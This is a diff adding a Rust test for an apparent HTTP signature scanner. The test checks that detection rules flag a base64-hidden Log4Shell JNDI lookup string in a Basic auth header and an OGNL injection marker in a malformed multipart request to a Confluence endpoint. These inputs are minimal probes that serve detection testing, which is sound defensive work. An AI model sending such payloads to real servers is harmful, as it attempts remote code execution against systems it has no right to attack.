@@ -594,3 +594,46 @@ fn signatures_test_scans_responses_with_the_response_rules() {
     let o = meshsight(&["signatures", "test", "builtin", path.to_str().unwrap()]);
     assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
 }
+
+#[test]
+fn signatures_test_names_the_decoded_view_a_hit_came_from_and_decoding_findings() {
+    let requests = temp("decoded.ndjson");
+    // base64("${jndi:ldap://x/a}:pw"); a multipart body with no closing delimiter.
+    std::fs::write(
+        &requests,
+        concat!(
+            r#"{"name": "basic", "path": "/admin", "headers": [["authorization", "Basic JHtqbmRpOmxkYXA6Ly94L2F9OnB3"]]}"#,
+            "\n",
+            r#"{"name": "form", "method": "POST", "path": "/pages/createpage-entervariables.action", "headers": [["content-type", "multipart/form-data; boundary=b"]], "body": "--b\r\nContent-Disposition: form-data; name=\"queryString\"\r\n\r\n#{1}\r\n"}"#,
+            "\n"
+        ),
+    )
+    .unwrap();
+    let o = meshsight(&["signatures", "test", "builtin", requests.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let out = stdout(&o);
+    assert!(
+        out.contains("ms-log4shell-jndi@headers.credentials"),
+        "{out}"
+    );
+    assert!(
+        out.contains("ms-confluence-26084-ognl-marker@body.multipart [multipart_malformed]"),
+        "{out}"
+    );
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        "builtin",
+        requests.to_str().unwrap(),
+        "--json",
+    ]);
+    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(
+        report["requests"][1]["views"],
+        serde_json::json!(["body.multipart"])
+    );
+    assert_eq!(
+        report["requests"][1]["findings"],
+        serde_json::json!(["multipart_malformed"])
+    );
+}
